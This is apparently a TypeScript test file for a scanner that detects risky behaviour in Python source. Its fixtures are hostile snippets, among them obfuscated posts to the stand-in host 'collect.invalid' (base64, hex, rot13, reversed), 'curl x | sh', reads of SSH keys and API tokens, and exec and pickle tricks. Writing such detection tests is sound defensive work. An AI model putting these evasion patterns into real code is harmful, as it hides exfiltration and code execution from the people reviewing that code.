import assert from 'node:assert/strict'
import test from 'node:test'
import { proves } from '../../test/guide/proves.ts'
import { fc } from '../../test/property.ts'
import { pythonFactsOf } from './python-facts.ts'

const factsIn = (source: string) => pythonFactsOf(source, 'a.py').facts.map(({ kind, what }) => `${kind}: ${what}`)
const base64 = (text: string) => Buffer.from(text).toString('base64')
const hex = (text: string) => Buffer.from(text).toString('hex')
const target = 'https://collect.invalid/log'

/** Ways to send to a second host, each with what must be found. */
const hosts: Readonly<Record<string, string>> = {
  'in plain sight': `import requests\nrequests.post('${target}', json=d)`,
  'under other names': `from httpx import post as p\np('${target}')`,
  'late, inside of a function': `def f():\n  import urllib.request as u\n  u.urlopen('${target}')`,
  'in pieces that stand beside each other': "import socket\nu = 'https://col' 'lect' '.invalid/'",
  'in pieces that are added': "import aiohttp\nu = 'https://' + 'collect' + '.invalid'",
  'in escapes': "import http.client\nu = '\\x68ttps://collect.\\u0069nvalid'",
  'in base64': `import base64, requests\nrequests.get(base64.b64decode('${base64(target)}'))`,
  'in hexadecimal digits': `import requests\nrequests.get(bytes.fromhex('${hex(target)}').decode())`,
  'written backwards': `import requests\nrequests.get('${[...target].reverse().join('')}'[::-1])`,
  'moved by 13': "import codecs, requests\nrequests.get(codecs.decode('uggcf://pbyyrpg.vainyvq', 'rot13'))",
  'inside of a formatted text': `import requests\nx = f"{requests.get('${target}' + q)}"`,
}

for (const [how, source] of Object.entries(hosts))
  test(`a host that a Python server sends to is found ${how}`, proves('C1.source'), () => {
    const found = factsIn(source)
    assert.ok(found.includes('host: collect.invalid'), found.join('\n'))
    assert.ok(
      found.some(each => each.startsWith('network: ')),
      found.join('\n'),
    )
  })

/** What must be said of each source: a kind, and a part of the words. */
const deeds: Readonly<Record<string, readonly [source: string, expected: string]>> = {
  'a program by name': ["import subprocess\nsubprocess.run(['git', 'log'])", 'child: runs git'],
  'a program by a line': ["import os as o\no.system('curl x | sh')", 'child: runs curl'],
  'a program named at run time': ['from subprocess import check_output as c\nc(cmd)', 'child: runs a program named at'],
  'all of a module': ["from os import *\nsystem('id')", 'child: runs id'],
  'a renamed function': ['import os\nrun = os.system\nrun(cmd)', 'child: runs a program named at'],
  'a program from asyncio': ["import asyncio\nasyncio.create_subprocess_shell('id')", 'child: runs id'],
  'a member by a text': ["import os\ngetattr(os, 'sys' + 'tem')('id')", 'dynamic-code: os.system'],
  'a member named at run time': ['import os\ngetattr(os, name)(x)', 'dynamic-code: a member of os'],
  'a module named at run time': ['__import__(name)', 'dynamic-code: loads a module'],
  'a module by a text': ["__import__('subprocess').run(x)", 'child: subprocess'],
  'os by a text': ["__import__('os').system('id')", 'obfuscated: os, loaded'],
  'a module through importlib': ["from importlib import import_module as i\ni('so' 'cket')", 'network: socket'],
  eval: ['eval(x)', 'dynamic-code: eval'],
  'exec of base64': ["import base64\nexec(base64.b64decode('eA=='))", 'dynamic-code: exec'],
  'exec under another name': ['e = exec\ne(x)', 'dynamic-code: exec'],
  'exec in letters of another width': ['ｅｘｅｃ(x)', 'dynamic-code: exec'],
  'exec through builtins': ['import builtins as b\nb.exec(x)', 'dynamic-code: builtins.exec'],
  'exec handed on': ['list(map(exec, [x]))', 'dynamic-code: exec'],
  compile: ["compile(x, '', 'exec')", 'dynamic-code: compile'],
  'classes of everything': ['().__class__.__base__.__subclasses__()', 'dynamic-code: __subclasses__'],
  globals: ["f.__globals__['x']", 'dynamic-code: __globals__'],
  'modules that are loaded': ["import sys\nsys.modules['os']", 'dynamic-code: sys.modules'],
  'a hook into imports': ['import sys\nsys.meta_path.append(x)', 'dynamic-code: sys.meta_path'],
  pickle: ['import pickle\npickle.loads(x)', 'dynamic-code: pickle'],
  marshal: ['import marshal', 'dynamic-code: marshal'],
  ctypes: ["from ctypes import CDLL\nCDLL('libc.so.6')", 'native: ctypes'],
  'a variable': ["import os\nos.environ['API_KEY']", 'env: API_KEY'],
  'a variable asked for': ["from os import getenv as g\ng('TOKEN', '')", 'env: TOKEN'],
  'the whole environment': ['import os\ndict(os.environ)', 'env: any variable'],
  'the environment by a text': ["import os\ngetattr(os, 'environ')", 'env: os.environ'],
  'a key file': ["open('/root/.ssh/id_rsa')", 'files: /root/.ssh/id_rsa'],
  'the home folder': ["from pathlib import Path\nPath.home() / 'x'", 'files: the home folder'],
  'a blob': [`x = '${'QUJD'.repeat(200)}'`, 'obfuscated: 800 characters'],
  'code in a formatted text': ['f"{__import__(\'os\').system(x)}"', 'obfuscated: os, loaded'],
  'code behind quotes in braces': ['f"{\'"\'}" + \'"""\'\nimport socket\nx = \'"""\'', 'network: socket'],
  'a raw socket': ['import _socket', 'network: _socket'],
  'a connection of asyncio': ["import asyncio\nasyncio.open_connection('h', 1)", 'network: asyncio.open_connection'],
  'a source in another encoding': ['# coding: rot13\nvzcbeg bf', 'unread: is written in the encoding rot13'],
  'a source that is none': ["x = 'abc", 'unread: is not Python'],
}

for (const [what, [source, expected]] of Object.entries(deeds))
  test(`${what} is reported of a Python source`, () => {
    const found = factsIn(source)
    assert.ok(
      found.some(each => each.startsWith(expected)),
      `${expected}: ${found.join('\n')}`,
    )
  })

test('what only sounds like a deed is none', () => {
  for (const source of [
    '# import socket\n"""import requests"""\nx = "os.system(x)"',
    'import re\nre.compile(x)\nmodel.eval()\ndef exec(self): pass',
    'from urllib.parse import urlparse\nimport importlib.metadata\nfrom http import HTTPStatus',
    'self.subprocess = run\nsocket = 1\nf(exec=1)',
    "import os\nos.path.join(a, 'b')\nos.getcwd()",
    "raise ValueError('eval is not allowed')",
    'yield from import_things',
    'getattr(self, name)',
  ])
    assert.deepEqual(factsIn(source), [], source)
})

test('each fact has its line, and no source makes the reading throw or take long', () => {
  const { facts } = pythonFactsOf('\n\nimport socket\n', 'x/y.py')
  assert.deepEqual(facts, [{ kind: 'network', what: 'socket', file: 'x/y.py', line: 3 }])
  const piece = fc.constantFrom(
    'import ',
    'from os ',
    'as ',
    '(',
    ')',
    "'",
    '"""',
    'f"{',
    '}',
    '\n',
    '.',
    'exec',
    '=',
    ',',
    '\\',
  )
  fc.assert(fc.property(fc.array(piece, { maxLength: 60 }), pieces => void factsIn(pieces.join(''))))
  const before = process.cpuUsage()
  for (const part of [
    'f"{',
    'import a as b, ',
    'getattr(os, ',
    'x = y = ',
    'a.',
    '[',
    '"a" + ',
    'from x import a, ',
    'from a ',
    'import ',
  ])
    factsIn(part.repeat(20_000))
  const { user, system } = process.cpuUsage(before)
  assert.ok((user + system) / 1000 < 8000, `${(user + system) / 1000} ms`)
})
